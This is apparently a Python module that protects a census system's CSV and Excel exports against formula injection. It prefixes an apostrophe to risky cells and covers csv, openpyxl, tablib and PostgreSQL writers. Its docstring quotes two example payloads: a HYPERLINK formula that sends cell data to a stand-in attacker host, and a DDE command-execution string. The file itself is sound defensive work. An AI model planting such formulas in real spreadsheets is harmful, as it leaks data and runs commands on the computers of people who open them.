"""Every csv and xlsx file the system writes goes through this module, so that no cell reaches a spreadsheet
program as a formula (CSV or formula injection: OWASP "CSV Injection", CWE-1236).

An enumerator who types ``=HYPERLINK("http://evil.example/?"&A1,"x")`` as an address, or ``+cmd|' /C calc'!A0``
as a name, has written a formula into the office's next export: spreadsheet programs evaluate a cell that
begins with ``=``, ``+``, ``-`` or ``@`` (and some also after leading blanks, or a tab or line break first).
The rule, applied to every text cell as it is written (:func:`cell_safe`):

* a text whose first character is ``=``, ``+``, ``-`` or ``@`` — also after leading white space, and also
  in the full-width forms ``＝ ＋ － ＠`` that Chinese input methods type —, or whose first character is a tab,
  carriage return, line feed or NUL, is written with an apostrophe in front: OWASP's advice, the way a person
  enters literal text in a spreadsheet. The text itself is kept whole, so a reader still sees what was typed;
* a text that is a plain decimal number (``-3``, ``+12.5``) is left alone: a number is not a formula;
* anything that is not text — ``int``, ``float``, ``Decimal``, dates, ``None`` — is left alone, so a number is
  written as a number (``-3`` in a numeric column stays the number -3).

Each kind of writer has its entry here, and a test (tests/census/test_spreadsheets.py) fails when a module
writes a csv or xlsx any other way:

* :func:`csv_writer` — ``csv.writer`` whose rows go through the rule;
* :func:`workbook_new` — an openpyxl workbook whose text cells go through the rule when it is saved;
* :func:`dataset_export` — a tablib ``Dataset`` or ``Databook`` written as csv or xlsx through the rule;
* :class:`SpreadsheetResource` — the base of every django-import-export resource: its ``export()`` applies it;
* :func:`sql_text_safe` — the rule as an SQL expression, for files PostgreSQL writes (``COPY … TO STDOUT``).

Files the system reads back itself (the csv stream a roster import feeds to ``COPY … FROM``, a benchmark's
input file) are not spreadsheets for people and are listed, with their reasons, in that test.
"""

from __future__ import annotations

import csv
import functools
import re
from collections.abc import Iterable
from typing import IO, TYPE_CHECKING, Any, TypeVar

import tablib
from import_export import resources

if TYPE_CHECKING:
    from openpyxl import Workbook

T = TypeVar("T")

PREFIX = "'"
# What makes a spreadsheet read a cell as a formula (OWASP: = + - @, tab, carriage return; ASVS 5 adds NUL).
_FORMULA_STARTS = "=+\\-@\\uff1d\\uff0b\\uff0d\\uff20"  # = + - @ and their full-width forms (a class body)
_CONTROL_STARTS = "\\t\\r\\n"
# Leading white space a program may skip before it looks for a formula: ASCII, no-break and ideographic
# spaces, the Unicode spaces and the zero-width ones an input method can leave in front.
_SPACES = "\\t\\n\\v\\f\\r \\u0085\\u00a0\\u1680\\u2000-\\u200b\\u2028\\u2029\\u202f\\u205f\\u3000\\ufeff"
# The same two patterns serve Python's ``re`` and PostgreSQL's regular expressions (both read ``\\uXXXX``).
FORMULA_PATTERN = f"^([{_CONTROL_STARTS}]|[{_SPACES}]*[{_FORMULA_STARTS}])"
NUMBER_PATTERN = "^[+-]?([0-9]+([.][0-9]*)?|[.][0-9]+)([eE][+-]?[0-9]+)?$"

_formula = re.compile(FORMULA_PATTERN)
_number = re.compile(NUMBER_PATTERN.removesuffix("$") + "\\Z")  # Python's $ would also match before a final \n


def cell_safe(value: T) -> T | str:
    """``value`` as it may be written into a spreadsheet cell: see the module's rule."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] == "\0" or (_formula.match(value) is not None and _number.match(value) is None):
        return PREFIX + value
    return value


def row_safe(row: Iterable[Any]) -> list[Any]:
    return [cell_safe(value) for value in row]


# --- csv ----------------------------------------------------------------------------------------------------


class SafeCsvWriter:
    """``csv.writer`` with every row through :func:`cell_safe`."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(row_safe(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(handle, **options)


# --- openpyxl -----------------------------------------------------------------------------------------------


@functools.cache
def _safe_workbook_class() -> type[Workbook]:
    # (openpyxl is imported when a workbook is first made: every process imports this module, and openpyxl took
    # 0.17 s of a management command's or Celery worker's start.)
    from openpyxl import Workbook

    class SafeWorkbook(Workbook):  # type: ignore[misc]
        """An openpyxl workbook whose text cells are made safe when it is saved, however they were set
        (``append``, ``sheet["A1"] = …``, ``sheet.cell(…, value=…)``): openpyxl itself turns every text beginning
        with ``=`` into a formula. Not write-only: a write-only sheet streams its rows before the save could see
        them, and the system's workbooks are small enough (a few thousand rows) to hold in memory."""

        def __init__(self) -> None:
            super().__init__(write_only=False)

        def save(self, filename: Any) -> None:
            for sheet in self.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        # A text set through openpyxl is either a string ('s') or, when it began with "=", a
                        # formula ('f'); the system never writes a formula of its own, so both are text to make safe.
                        if isinstance(cell.value, str):
                            cell.value = cell_safe(cell.value)
            super().save(filename)

    return SafeWorkbook


def workbook_new() -> Workbook:
    """An openpyxl workbook whose text cells go through the rule when it is saved."""
    return _safe_workbook_class()()


# --- tablib and django-import-export ------------------------------------------------------------------------


def dataset_safe(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of ``dataset`` with every cell (and heading) through :func:`cell_safe`."""
    safe = tablib.Dataset(*(row_safe(row) for row in dataset), headers=row_safe(dataset.headers or []) or None)
    safe.title = dataset.title
    return safe


def dataset_export(data: tablib.Dataset | tablib.Databook, file_format: str) -> bytes:
    """A tablib dataset (one sheet) or databook (a workbook) written as ``file_format`` (csv, xlsx) through the
    rule. CSV comes as UTF-8 with a byte-order mark, so that spreadsheet programs on Chinese Windows read it."""
    if isinstance(data, tablib.Databook):
        safe: tablib.Dataset | tablib.Databook = tablib.Databook([dataset_safe(sheet) for sheet in data.sheets()])
    else:
        safe = dataset_safe(data)
    content = safe.export(file_format)
    return content.encode("utf-8-sig") if isinstance(content, str) else bytes(content)


class SpreadsheetResource(resources.ModelResource):
    """The base of every django-import-export resource of the system: what ``export()`` returns is safe to
    write, whoever writes it (a service, the admin's export action)."""

    def export(self, queryset: Any = None, **kwargs: Any) -> tablib.Dataset:
        return dataset_safe(super().export(queryset, **kwargs))


# --- PostgreSQL ---------------------------------------------------------------------------------------------


# First characters that never begin a formula: the empty text (ascii('') is 0), digits and ASCII letters.
_SAFE_FIRST_CODES = ", ".join(str(code) for code in (0, *range(48, 58), *range(65, 91), *range(97, 123)))


def sql_text_safe(expression: str) -> str:
    """The rule as an SQL expression over the text ``expression`` (NULL stays NULL), for rows PostgreSQL formats
    itself. A column of another type needs nothing: PostgreSQL writes a number as a number. (A text value
    cannot hold NUL in PostgreSQL, so only Python checks for it.)

    Nearly every text cell of an export is empty or a code beginning with a digit or a letter: the first
    character's code point (``ascii()``, looked up in a list PostgreSQL hashes) lets those through before any
    regular expression runs — the expressions alone added about 45% to the backend's CPU time of a microdata
    export, the shortcut about 12%. No character the rule looks for is in that list."""
    return (
        f"CASE WHEN ascii({expression}) IN ({_SAFE_FIRST_CODES}) THEN {expression}"
        f" WHEN {expression} ~ '{FORMULA_PATTERN}' AND {expression} !~ '{NUMBER_PATTERN}'"
        f" THEN '{PREFIX}{PREFIX}' || {expression} ELSE {expression} END"
    )
